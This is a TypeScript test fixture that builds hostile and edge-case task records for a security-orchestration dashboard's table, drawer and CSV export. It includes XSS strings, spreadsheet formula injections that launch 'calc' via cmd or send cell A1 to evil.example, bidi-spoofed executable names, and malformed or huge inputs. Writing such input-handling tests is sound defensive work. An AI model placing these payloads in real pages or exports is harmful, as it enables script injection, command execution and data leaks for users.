/**
 * Hostile and edge records, always part of the dataset, so every consumer (table, drawer,
 * CSV export) is tested against them. Their TaskIds are fixed (independent of the seed);
 * times are relative to start-up.
 */
import type { ProcessTask } from '../../shared/sophonsoar';

const HOUR = 3_600_000;

const id = (n: number) => `edge0000-0000-4000-8000-${String(n).padStart(12, '0')}`;

/** name → TaskId of each hostile/edge record. */
export const HOSTILE_TASK_IDS = {
  scriptInEntityName: id(1),
  htmlInInputParams: id(2),
  scriptInErrMsg: id(3),
  formulaHyperlink: id(4),
  formulaPlus: id(5),
  formulaMinus: id(6),
  formulaAt: id(7),
  formulaLeadingTab: id(8),
  formulaLeadingCarriageReturn: id(9),
  inputParamsEmpty: id(10),
  inputParamsNotJson: id(11),
  inputParamsHuge: id(12),
  chineseText: id(13),
  rightToLeftText: id(14),
  emojiText: id(15),
  trailingNewlineUuids: id(16),
  missingOptionalFields: id(17),
  onlyTaskId: id(18),
  unknownTaskStatus: id(19),
  unknownYunCode: id(20),
  quotesCommasNewlines: id(21),
  // 22–33 are the triage cases' (triage.ts).
  hostileErrorText: id(34),
} as const satisfies Record<string, string>;

export type HostileName = keyof typeof HOSTILE_TASK_IDS;

/** Bidirectional controls: RLO, LRI, RLI, FSI, PDI, RLM, and a PDF closing the override. */
const BIDI = '\u202E\u2066\u2067\u2068\u2069\u200F\u202C';

/**
 * The hostile error text of a failed task: ErrTip and ErrMsg with markup, a formula start,
 * direction controls and one very long line (over 4 KB, no line break, one word of 4,500
 * characters).
 */
export const HOSTILE_ERROR_TEXT = {
  ErrCode: 'waf_openapi.Instance.NotFound',
  ErrTip:
    '=HYPERLINK("http://evil.example/?leak="&A1,"Fix it")<img src=x onerror=alert("xss-errtip")>' +
    `<script>alert("xss-errtip")</script> exe.${BIDI}txt ` +
    // One line of 4,500 characters with no space to break at.
    `Check the component output: ${'retry-after-the-window-closes;'.repeat(150)} [end of tip]`,
  ErrMsg: `@SUM(1+1)*cmd|' /C calc'!A0 <svg onload=alert("xss-errmsg")></svg>${BIDI}gpj.exe <b>bold</b>`,
} as const;

/** A 200 KB JSON document (valid JSON, deeply boring) for InputParams. */
function hugeInputParams(): string {
  const items: string[] = [];
  let size = 0;
  for (let i = 0; size < 200 * 1024; i++) {
    const item = JSON.stringify({
      ip: `198.51.100.${i % 256}`,
      note: `blocked entry ${i}`,
      tag: 'x'.repeat(40),
    });
    items.push(item);
    size += item.length + 1;
  }
  return `{"ipList":[${items.join(',')}]}`;
}

export function hostileTasks(now: number): ProcessTask[] {
  // Spread over the last three days, an hour apart, newest first.
  let slot = 0;
  const base = (name: HostileName, over: Partial<ProcessTask>): ProcessTask => {
    const created = now - 2 * HOUR - slot++ * 3 * HOUR;
    return {
      TaskId: HOSTILE_TASK_IDS[name],
      Creator: 'alice.chen@1436871203985512.onaliyun.com',
      GmtCreateMillis: created,
      GmtModifiedMillis: created + 4000,
      YunCode: 'WAF',
      EntityName: '203.0.113.10',
      EntityType: 'ip',
      TaskStatus: 21,
      Scope: '1436871203985512',
      InputParams: '{"ip":"203.0.113.10","blockDuration":86400}',
      SceneCode: 'waf_ip_block',
      SceneName: 'WAF: block attacking IP',
      ProcessTime: created + 1500,
      ProcessStrategyUuid: '7c2f2a64-5b1e-4e0b-9d55-0e6f3f0a1b01',
      Source: 'soar-manual',
      EntityUuid: `ent-${name}`,
      EventUuid: `evt-${name}`,
      ReqUuid: `req-${name}`,
      TriggerSource: 'soar-manual',
      ...over,
    };
  };
  const failed = (over: Partial<ProcessTask>): Partial<ProcessTask> => ({
    TaskStatus: 90,
    ErrCode: 'sts_openapi.Info.DefenseSceneNotSupported',
    ErrMsg: 'ParamError : The parameters of your request are invalid',
    ErrTip: 'Verify that the input parameters of the components are correct',
    ...over,
  });
  const onlyId = base('onlyTaskId', {});
  slot--;
  return [
    base('scriptInEntityName', { EntityName: '<script>alert("xss-entity")</script>' }),
    base('htmlInInputParams', {
      InputParams: '{"ip":"203.0.113.11","note":"<img src=x onerror=alert(\'xss-params\')><b>bold</b>"}',
    }),
    base(
      'scriptInErrMsg',
      failed({
        ErrMsg: 'Failed: <script>alert("xss-errmsg")</script><a href="javascript:alert(1)">retry</a>',
      }),
    ),
    base('formulaHyperlink', { EntityName: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")' }),
    base('formulaPlus', { EntityName: "+cmd|' /C calc'!A0", SceneName: '+1+1' }),
    base('formulaMinus', { EntityName: "-2+3+cmd|' /C calc'!A0", Creator: '-1' }),
    base('formulaAt', { EntityName: "@SUM(1+1)*cmd|' /C calc'!A0", ErrTip: undefined }),
    base('formulaLeadingTab', { EntityName: '\t=1+1', SceneName: '\t=HYPERLINK("http://evil.example")' }),
    base('formulaLeadingCarriageReturn', { EntityName: '\r=1+1', Creator: '\r@evil' }),
    base('inputParamsEmpty', { InputParams: '' }),
    base('inputParamsNotJson', { InputParams: "{ip: 203.0.113.12, 'broken': [ not json" }),
    base('inputParamsHuge', { InputParams: hugeInputParams() }),
    base('chineseText', {
      YunCode: 'Aegis',
      EntityType: 'file',
      EntityName: '/root/恶意软件/挖矿程序.sh',
      SceneCode: 'aegis_malicious_file_quarantine',
      SceneName: '云安全中心隔离恶意文件',
      TaskStatus: 22,
      InputParams: '{"filePath":"/root/恶意软件/挖矿程序.sh","备注":"自动隔离"}',
    }),
    base('rightToLeftText', {
      EntityName: 'invoice\u202Egpj.exe',
      SceneName: 'حظر عنوان IP المهاجم',
      Creator: 'مستخدم@1436871203985512.onaliyun.com',
      YunCode: 'Aegis',
      EntityType: 'file',
      SceneCode: 'aegis_malicious_file_quarantine',
      TaskStatus: 22,
      InputParams: '{"filePath":"C:\\\\Users\\\\Public\\\\invoice\u202Egpj.exe","note":"שלום עולם"}',
    }),
    base('emojiText', {
      EntityName: '🔥💣 miner 🚀',
      SceneName: 'Kill 🐛 process 👾',
      EntityType: 'process',
      YunCode: 'Aegis',
      SceneCode: 'aegis_miner_process_kill',
      TaskStatus: 20,
    }),
    base('trailingNewlineUuids', {
      EntityUuid: '2a6f6e4d-1c1b-4e25-9a61-8f1b0c2d****\n',
      EventUuid: 'c1d2e3f4-5a6b-4c7d-8e9f-0a1b2c3d****\n',
      ReqUuid: '9f8e7d6c-5b4a-4392-8170-6e5d4c3b****\n',
    }),
    {
      TaskId: HOSTILE_TASK_IDS.missingOptionalFields,
      GmtCreateMillis: now - 2 * HOUR - slot * 3 * HOUR,
      GmtModifiedMillis: now - 2 * HOUR - slot * 3 * HOUR + 2000,
      ProcessTime: now - 2 * HOUR - slot++ * 3 * HOUR + 1000,
      TaskStatus: 20,
    },
    // Deliberately broken: no times at all (breaks the usual data facts on purpose).
    { TaskId: onlyId.TaskId },
    base('unknownTaskStatus', { TaskStatus: 25 }),
    base('unknownYunCode', {
      YunCode: 'DDoS',
      SceneCode: 'ddos_ip_blackhole',
      SceneName: 'Anti-DDoS: blackhole IP',
    }),
    base(
      'quotesCommasNewlines',
      failed({
        EntityName: 'he said "block it", then\nleft; a,b,"c"',
        ErrMsg: 'Line one, with "quotes"\r\nLine two, with, commas\nLine three',
        ErrTip: '"Quoted tip", and more',
        SceneName: 'Block, "quoted"\nscene',
      }),
    ),
    base('hostileErrorText', failed({ ...HOSTILE_ERROR_TEXT })),
  ].map((t) => {
    // Drop keys explicitly set to undefined so "missing" really is missing in JSON and in `in`.
    for (const k of Object.keys(t)) if (t[k] === undefined) delete t[k];
    return t;
  });
}
